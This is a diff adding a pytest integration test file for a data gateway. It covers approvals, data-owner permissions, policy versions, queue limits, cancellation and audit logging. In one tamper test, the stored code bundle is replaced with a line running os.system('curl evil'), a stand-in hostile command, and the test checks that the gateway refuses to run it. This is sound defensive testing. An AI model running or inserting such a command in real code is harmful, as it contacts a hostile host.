@@ -1,0 +1,296 @@
+"""The gateway's control plane against an in-process site: decisions, bindings, queueing.
+
+No network and no Docker: :class:`ScriptedSite` implements the :class:`gateway.site.Site`
+contract with reports a test scripts, so each test sees exactly what the gateway did with a
+submission, an approval, a changed bundle or a full queue, and what it wrote to the audit log.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import io
+import json
+import tarfile
+import threading
+from collections.abc import Callable, Iterator
+from pathlib import Path
+
+import pytest
+from cryptography.hazmat.primitives.asymmetric import ed25519
+
+from gateway.audit import AuditLog
+from gateway.core import Gateway
+from gateway.lifecycle import JobState
+from gateway.site import Report, RunOrder, SiteReport, StoredDataset
+from gateway.store import Store
+from policies.errors import (
+    InvalidState,
+    NotFound,
+    PermissionDenied,
+    PolicyDocumentError,
+    ResourceExhausted,
+    SpecError,
+)
+from policies.identity import Principal, Role
+from tests.integration._deployment import policy
+
+OLIVIA = Principal("olivia", Role.DATA_OWNER, "library")
+OTTO = Principal("otto", Role.DATA_OWNER, "hospital")
+THEO = Principal("theo", Role.MODEL_TEAM, "model-team")
+MALLORY = Principal("mallory", Role.MODEL_TEAM, "other-team")
+
+SPEC = """\
+name: t
+datasets: [books]
+base_model: tiny-lm
+trainer: {trainer}
+{entry}purpose: testing
+resources: {{cpus: 1, memory_mb: 1024, timeout_s: 60}}
+"""
+
+
+def spec(trainer: str = "causal-lm") -> str:
+    entry = 'entrypoint: "m:M"\n' if trainer == "custom" else ""
+    return SPEC.format(trainer=trainer, entry=entry)
+
+
+class ScriptedSite:
+    """A site whose runs follow ``script`` (a function of the order returning reports)."""
+
+    name = "scripted"
+
+    def __init__(self, tmp: Path) -> None:
+        self.tmp = tmp
+        self.orders: list[RunOrder] = []
+        self.gate = threading.Event()
+        self.gate.set()
+        self.cancelled: set[str] = set()
+        self.script: Callable[[RunOrder], list[SiteReport]] = self._release
+
+    def image_id(self) -> str:
+        return "sha256:" + "0" * 64
+
+    def store_dataset(self, name: str, *, archive: Path) -> StoredDataset:
+        digest = hashlib.sha256(archive.read_bytes()).hexdigest()
+        return StoredDataset(name, 1, digest, 10, (("a.txt", 10, digest),))
+
+    def run(self, order: RunOrder, report: Report) -> None:
+        self.orders.append(order)
+        self.gate.wait(10)
+        for r in self.script(order):
+            report(r)
+
+    def cancel(self, job_id: str) -> None:
+        self.cancelled.add(job_id)
+
+    def logs(self, job_id: str) -> bytes:
+        return b"stdout of " + job_id.encode()
+
+    def _release(self, order: RunOrder) -> list[SiteReport]:
+        out = self.tmp / f"release-{order.job_id}"
+        out.mkdir()
+        (out / "manifest.json").write_text(json.dumps({"job": order.job_id}))
+        (out / "metrics.json").write_text('{"train_loss": 1.5}')
+        return [
+            SiteReport(order.job_id, state=JobState.RUNNING, image_id=self.image_id(),
+                       audit_action="container.start"),
+            SiteReport(order.job_id, progress=(1, 2, 1.5)),
+            SiteReport(order.job_id, state=JobState.CHECKING),
+            SiteReport(order.job_id, state=JobState.RELEASED, metrics={"train_loss": 1.5},
+                       release_dir=out, audit_action="release.sign"),
+        ]
+
+
+@pytest.fixture
+def site(tmp_path: Path) -> ScriptedSite:
+    return ScriptedSite(tmp_path)
+
+
+def _gateway(tmp_path: Path, site: ScriptedSite, **kw: int) -> Gateway:
+    home = tmp_path / "gw"
+    home.mkdir()
+    audit = AuditLog(home / "audit.db", signing_key=ed25519.Ed25519PrivateKey.generate())
+    return Gateway(home=home, store=Store(home / "state.db"), audit=audit, site=site, **kw)
+
+
+@pytest.fixture
+def gw(tmp_path: Path, site: ScriptedSite) -> Iterator[Gateway]:
+    g = _gateway(tmp_path, site)
+    _register(g, tmp_path)
+    yield g
+    g.stop()
+    g.audit.close()
+
+
+def _register(g: Gateway, tmp_path: Path, *, custom_code: bool = False,
+              mode: str = "manual") -> None:
+    archive = tmp_path / "books.tar"
+    with tarfile.open(archive, "w") as tar:
+        info = tarfile.TarInfo("a.txt")
+        info.size = 5
+        tar.addfile(info, io.BytesIO(b"hello"))
+    g.register_dataset(principal=OLIVIA, name="books", description="", archive=archive,
+                       archive_sha256="")
+    g.put_policy(principal=OLIVIA, dataset="books",
+                 text=policy("books", custom_code=custom_code, mode=mode))
+
+
+def _wait(g: Gateway, job_id: str, *, until: set[JobState] | None = None) -> JobState:
+    until = until or {s for s in JobState if s.name in {"RELEASED", "REJECTED", "FAILED",
+                                                          "ERROR", "CANCELLED", "DENIED"}}
+    for _ in range(200):
+        state = g.store.job(job_id).state
+        if state in until:
+            return state
+        threading.Event().wait(0.05)
+    return g.store.job(job_id).state
+
+
+def _actions(g: Gateway, job_id: str) -> list[str]:
+    return [r.event.action for r in g.audit.query(job=job_id, limit=10_000)]
+
+
+def test_an_approved_job_runs_and_its_release_is_kept(gw: Gateway, site: ScriptedSite) -> None:
+    gw.start()
+    job = gw.submit(principal=THEO, spec_text=spec(), bundle=None, bundle_sha256="")
+    assert job.state is JobState.PENDING_APPROVAL
+    gw.decide(principal=OLIVIA, job_id=job.id, approve=True, reason="ok")
+    assert _wait(gw, job.id) is JobState.RELEASED
+    assert (gw.home / "releases" / job.id / "metrics.json").exists()
+    done = gw.store.job(job.id)
+    assert done.metrics == {"train_loss": 1.5} and done.image_id == site.image_id()
+    order = site.orders[0]
+    assert order.approvals == ("olivia",) and order.datasets == (("books", 1),)
+    actions = _actions(gw, job.id)
+    for expected in ("job.submit", "policy.decision", "job.approve", "container.start",
+                     "release.sign"):
+        assert expected in actions, actions
+
+
+def test_only_an_owner_of_the_data_may_approve(gw: Gateway) -> None:
+    job = gw.submit(principal=THEO, spec_text=spec(), bundle=None, bundle_sha256="")
+    with pytest.raises(PermissionDenied, match="owns none"):
+        gw.decide(principal=OTTO, job_id=job.id, approve=True, reason="")
+    gw.decide(principal=OLIVIA, job_id=job.id, approve=False, reason="no")
+    assert gw.store.job(job.id).state is JobState.DENIED
+    with pytest.raises(InvalidState, match="not waiting for approval"):
+        gw.decide(principal=OLIVIA, job_id=job.id, approve=True, reason="")
+
+
+def test_a_denial_keeps_every_reason(gw: Gateway) -> None:
+    job = gw.submit(principal=MALLORY, spec_text=spec().replace("testing", "fun"), bundle=None,
+                    bundle_sha256="")
+    assert job.state is JobState.DENIED
+    text = " ".join(job.reasons)
+    assert "other-team" in text and "fun" in text
+
+
+def test_a_bad_spec_leaves_no_job_and_no_job_record(gw: Gateway) -> None:
+    before = gw.audit.size()
+    with pytest.raises(SpecError, match="privileged"):
+        gw.submit(principal=THEO, spec_text=spec() + "privileged: true\n", bundle=None,
+                  bundle_sha256="")
+    assert gw.store.jobs() == [] and gw.audit.size() == before
+    assert list((gw.home / "bundles").iterdir()) == []
+
+
+def test_a_bad_policy_leaves_the_current_version_in_force(gw: Gateway) -> None:
+    with pytest.raises(PolicyDocumentError, match="release.dtype"):
+        gw.put_policy(principal=OLIVIA, dataset="books",
+                      text=policy("books").replace("bfloat16", "int4"))
+    assert [p.version for p in gw.store.policies("books")] == [1]
+
+
+def _bundle(path: Path, text: bytes) -> Path:
+    with tarfile.open(path, "w:gz") as tar:
+        info = tarfile.TarInfo("m.py")
+        info.size = len(text)
+        tar.addfile(info, io.BytesIO(text))
+    return path
+
+
+def test_a_bundle_changed_after_approval_cannot_run(tmp_path: Path, site: ScriptedSite) -> None:
+    g = _gateway(tmp_path, site)
+    _register(g, tmp_path, custom_code=True)
+    code = _bundle(tmp_path / "b.tar.gz", b"class M: pass\n")
+    job = g.submit(principal=THEO, spec_text=spec("custom"), bundle=code, bundle_sha256="")
+    g.decide(principal=OLIVIA, job_id=job.id, approve=True, reason="reviewed")
+    assert g.store.job(job.id).state is JobState.QUEUED  # no worker yet
+    stored = g.home / "bundles" / f"{job.bundle_sha256}.tar.gz"
+    _bundle(stored, b"import os; os.system('curl evil')\nclass M: pass\n")
+    g.start()
+    try:
+        assert _wait(g, job.id) is JobState.ERROR
+        assert site.orders == []  # never reached the site
+        assert "no longer applies" in " ".join(g.store.job(job.id).reasons)
+        assert any(r.event.outcome == "denied" for r in g.audit.query(job=job.id,
+                                                                       action="job.binding"))
+    finally:
+        g.stop()
+
+
+def test_a_new_policy_version_sends_an_approved_job_back_for_approval(
+    tmp_path: Path, site: ScriptedSite
+) -> None:
+    g = _gateway(tmp_path, site)
+    _register(g, tmp_path)
+    job = g.submit(principal=THEO, spec_text=spec(), bundle=None, bundle_sha256="")
+    g.decide(principal=OLIVIA, job_id=job.id, approve=True, reason="")
+    assert g.store.job(job.id).state is JobState.QUEUED
+    g.put_policy(principal=OLIVIA, dataset="books",
+                 text=policy("books").replace("max_memory_mb: 4096", "max_memory_mb: 2048"))
+    again = g.store.job(job.id)
+    assert again.state is JobState.PENDING_APPROVAL and again.policy_versions == {"books": 2}
+    g.put_policy(principal=OLIVIA, dataset="books",
+                 text=policy("books").replace("max_memory_mb: 4096", "max_memory_mb: 512"))
+    denied = g.store.job(job.id)
+    assert denied.state is JobState.DENIED and "memory" in " ".join(denied.reasons)
+    g.audit.close()
+
+
+def test_a_full_queue_refuses_new_submissions_and_loses_no_approved_job(
+    tmp_path: Path, site: ScriptedSite
+) -> None:
+    g = _gateway(tmp_path, site, max_queued=2)
+    _register(g, tmp_path, mode="automatic")
+    site.gate.clear()  # the site holds every run until told
+    jobs = [g.submit(principal=THEO, spec_text=spec(), bundle=None, bundle_sha256="")
+            for _ in range(2)]
+    assert all(j.state is JobState.QUEUED for j in jobs)
+    with pytest.raises(ResourceExhausted, match="queue is full"):
+        g.submit(principal=THEO, spec_text=spec(), bundle=None, bundle_sha256="")
+    assert len(g.store.jobs()) == 2  # the refused submission left nothing
+    g.start()
+    site.gate.set()
+    try:
+        assert all(_wait(g, j.id) is JobState.RELEASED for j in jobs)
+        assert sorted(o.job_id for o in site.orders) == sorted(j.id for j in jobs)
+    finally:
+        g.stop()
+        g.audit.close()
+
+
+def test_cancel_reaches_a_running_job(gw: Gateway, site: ScriptedSite) -> None:
+    site.gate.clear()
+    site.script = lambda o: [SiteReport(o.job_id, state=JobState.RUNNING),
+                             SiteReport(o.job_id, state=JobState.CANCELLED, reason="cancelled")]
+    gw.start()
+    job = gw.submit(principal=THEO, spec_text=spec(), bundle=None, bundle_sha256="")
+    gw.decide(principal=OLIVIA, job_id=job.id, approve=True, reason="")
+    for _ in range(100):
+        if site.orders:
+            break
+        threading.Event().wait(0.05)
+    with pytest.raises(NotFound):  # another team's job: not even confirmed to exist
+        gw.cancel(principal=MALLORY, job_id=job.id, reason="")
+    gw.cancel(principal=THEO, job_id=job.id, reason="changed my mind")
+    assert job.id in site.cancelled
+    site.gate.set()
+    assert _wait(gw, job.id) is JobState.CANCELLED
+
+
+def test_logs_stay_with_the_owner(gw: Gateway) -> None:
+    job = gw.submit(principal=THEO, spec_text=spec(), bundle=None, bundle_sha256="")
+    assert gw.logs(principal=OLIVIA, job_id=job.id).startswith(b"stdout")
+    with pytest.raises(PermissionDenied, match="log"):
+        gw.logs(principal=THEO, job_id=job.id)
